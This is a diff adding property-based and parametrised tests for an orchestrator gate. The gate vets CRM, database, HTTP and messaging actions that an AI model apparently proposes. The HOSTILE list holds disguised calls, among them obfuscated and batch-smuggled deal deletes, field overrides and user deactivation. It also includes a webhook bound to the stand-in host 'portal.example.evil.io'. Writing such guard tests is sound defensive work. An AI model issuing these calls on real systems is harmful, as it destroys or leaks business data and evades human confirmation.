@@ -1,0 +1,118 @@
+"""Hostile and random effects: the gate never raises, never lets through what it should not, and never changes its mind."""
+
+from typing import Any
+
+import pytest
+from gate_kit import ANNA, FIRST, LEAD, LOST, TEAM, TOKEN, catalogue, effect, judged, made, said
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from orchestrator.gate.decide import decide
+from orchestrator.gate.effects import Allow, Call, Facts, Refuse
+from orchestrator.gate.policy import Policy
+from orchestrator.messages import MODES, Effect, Mode, Provenance
+
+NAMES = sorted(method.name for method in catalogue())
+SETTINGS = settings(max_examples=250, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
+WORDS = ["id", "ID", "fields", "filter", "OPPORTUNITY", "opportunity", "ASSIGNED_BY_ID", "ENTITY_TYPE", "ENTITY_ID", "entityTypeId", "taskId"]
+WORDS += ["logic", "0", "cmd", "halt", "$result[a]", "deal", "crm.deal.delete?id=1", "STAGE_ID", "PHONE", "ID", "VALUE", "auth", "params", "TASKID"]
+
+texts = st.one_of(st.sampled_from(WORDS), st.text(max_size=8))
+scalars = st.one_of(st.none(), st.booleans(), st.integers(-5, 1000), st.floats(), texts)
+values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(texts, inner, max_size=3)), max_leaves=8)
+commands = st.builds(lambda method, query: f"{method}?{query}", st.sampled_from(NAMES), st.text(alphabet="id=1&[]%5B5D$resultaFIELDSTfields", max_size=25))
+maps = st.dictionaries(texts, values, max_size=4)
+params = st.one_of(
+    maps,
+    st.fixed_dictionaries({"id": st.integers(1, 5), "fields": maps}),
+    st.fixed_dictionaries({"entityTypeId": st.sampled_from([1, 2, 3, 177]), "id": st.integers(1, 5), "fields": maps}),
+    st.fixed_dictionaries({"filter": maps}),
+    st.fixed_dictionaries({"cmd": st.dictionaries(st.sampled_from(["a", "b", "c"]), commands, max_size=3)}),
+)
+effects = st.builds(
+    Effect,
+    kind=st.sampled_from(["bitrix", "bitrix", "bitrix", "mongo", "http", "telegram", "run"]),
+    method=st.one_of(st.sampled_from([*NAMES, "insert_one", "post", "send_message", "flow"]), st.text(max_size=12)),
+    params=params,
+    requires_confirmation=st.booleans(),
+    confirmed=st.booleans(),
+    confirmation_decision=st.sampled_from([None, "approve", "deny", "x"]),
+    provenance=st.builds(Provenance, prose=st.booleans(), external=st.tuples(st.text(max_size=5)), person_text=st.text(max_size=5)),
+)
+records = st.one_of(st.none(), maps, st.just({"ASSIGNED_BY_ID": "7", "OPPORTUNITY": "5.00", "STAGE_ID": "NEW"}))
+policies = st.sampled_from([
+    Policy(),
+    Policy(open_methods=frozenset(NAMES), open_kinds=frozenset({"mongo", "http", "telegram", "run", "schedule"}), ask_above=5, four_eyes_above=50),
+])  # fmt: skip
+
+
+@SETTINGS
+@given(what=effects, mode=st.sampled_from(MODES), actor=st.sampled_from([ANNA, LEAD, TEAM, TOKEN, LOST]), policy=policies, record=records)
+def test_the_gate_is_total(what: Effect, mode: Mode, actor: Any, policy: Policy, record: Any) -> None:
+    """Any effect, any state of the world: a verdict and no exception, and the hard rules hold."""
+    found = made(what, actor=actor)
+    if isinstance(found, Refuse):
+        assert found.detail
+        return
+    facts = Facts(records=dict.fromkeys(found.targets, record), first_stages=FIRST)
+    verdict = decide(found, mode=mode, policy=policy, actor=actor, facts=facts, effect=what)
+    assert verdict == decide(found, mode=mode, policy=policy, actor=actor, facts=facts, effect=what)
+    if isinstance(verdict, Allow):
+        assert mode != "shadow"
+        assert not set(found.classes) & {"D", "C", "M", "N"}
+        assert not what.requires_confirmation
+        assert found.reads_only or not what.provenance.prose or found.kind != "bitrix"
+
+
+@SETTINGS
+@given(what=effects)
+def test_normalising_is_stable(what: Effect) -> None:
+    """A call that was made once is made again from its own parameters, exactly."""
+    found = made(what, actor=ANNA)
+    if isinstance(found, Call) and found.kind == "bitrix":
+        again = made(Effect(method=found.method, params=found.params), actor=ANNA)
+        assert isinstance(again, Call), again
+        assert again.fingerprint == found.fingerprint
+
+
+HOSTILE: list[tuple[str, dict[str, Any]]] = [
+    ("CRM.Deal.Delete", {"id": 481}),
+    ("CRM.Deal.Delete.json", {"ID": 481}),
+    ("crm.deal.delete/", {"id": 481}),
+    ("crm%2Edeal%2Edelete", {"id": 481}),
+    ("crm.item.delete", {"entityTypeId": 2, "id": 481}),
+    ("crm.item.update", {"entityTypeId": 2, "id": 481, "fields": {"opportunity": 1}}),
+    ("crm.item.update", {"entityTypeId": "D", "id": 481, "fields": {"OPPORTUNITY": 1}}),
+    ("crm.deal.update", {"ID": 481, "FIELDS": {"opportunity": 1}}),
+    ("crm.deal.update", {"id": 481, "fields": {"Opportunity": "1"}}),
+    ("crm.deal.update", {"id": 481, "fields": {"o_p_portunity": "1"}}),
+    ("tasks.task.delegate", {"taskId": 8017, "userId": 8}),
+    ("tasks.task.update", {"taskId": 8017, "fields": {"deadLine": "2027-01-01T00:00:00+03:00"}}),
+    ("crm.entity.mergeBatch", {"params": {"entityTypeId": 2, "entityIds": [481, 500]}}),
+    ("crm.activity.add", {"fields": {"OWNER_ID": 481, "OWNER_TYPE_ID": 2, "TYPE_ID": 4, "DIRECTION": 2, "COMPLETED": "Y"}}),
+    ("event.bind", {"event": "ONCRMDEALADD", "handler": "https://portal.example.evil.io"}),
+    ("event.offline.get", {"clear": 1}),
+    ("user.update", {"ID": 7, "ACTIVE": "N"}),
+    ("batch", {"cmd": {"a": "batch?cmd[x]=crm.deal.delete%3Fid%3D481"}}),
+    ("batch", {"cmd": ["crm.deal.delete?id=481"]}),
+    ("batch", {"cmd": {"a": "crm.deal.get?id=481", "b": "crm%2Edeal.delete?id=481"}}),
+    ("batch", {"cmd": {"a": "crm.deal.update?id=481&fields%5BOPPORTUNITY%5D=1"}}),
+    ("batch", {"cmd": {"a": "crm.deal.update?id=481&fields[OPPORTUNITY]=1000000&fields[OPPORTUNITY]=1"}}),
+    ("batch", {"cmd": {"a": "crm.deal.update?id=481&fields[TITLE]=x;fields[OPPORTUNITY]=1&fields[OPPORTUNITY]=2"}}),
+    ("batch", {"cmd": {"a": "crm.deal.update?id=481&+fields[OPPORTUNITY]=1"}}),
+    ("batch", {"cmd": {"a": "crm.deal.update?id=481&FIELDS[OPPORTUNITY]=1"}}),
+    ("batch", {"cmd": {f"k{number:02}": "crm.deal.get?id=481" for number in range(49)} | {"z": "crm.deal.delete?id=481"}}),
+    ("batch", {"cmd": {"a": "crm.deal.list", "b": "crm.deal.delete?id=$result[a][0][ID]"}}),
+    ("batch", {"cmd": {"a": "crm.deal.list", "b": "crm.deal.update?id=$RESULT[a][0][ID]&fields[TITLE]=x"}}),
+    ("batch", {"cmd": {"a": "crm.deal.list", "b": "crm.deal.update?id=%2524result%255Ba%255D&fields[TITLE]=x"}}),
+]
+
+
+@pytest.mark.req("S004-25", "S004-27", "S004-28", "S004-69", "S004-A5", "S004-X11")
+@pytest.mark.parametrize(("method", "params"), HOSTILE)
+@pytest.mark.parametrize("confirmed", [False, True])
+def test_no_disguise_gets_through(method: str, params: dict[str, Any], *, confirmed: bool) -> None:
+    """Each of these changes something that matters, or hides it: none of them just runs, whatever the model claims."""
+    for actor in (ANNA, LEAD):
+        verdict = judged(effect(method, params, confirmed=confirmed, confirmation_decision="approve"), actor=actor)
+        assert not isinstance(verdict, Allow), said(verdict)
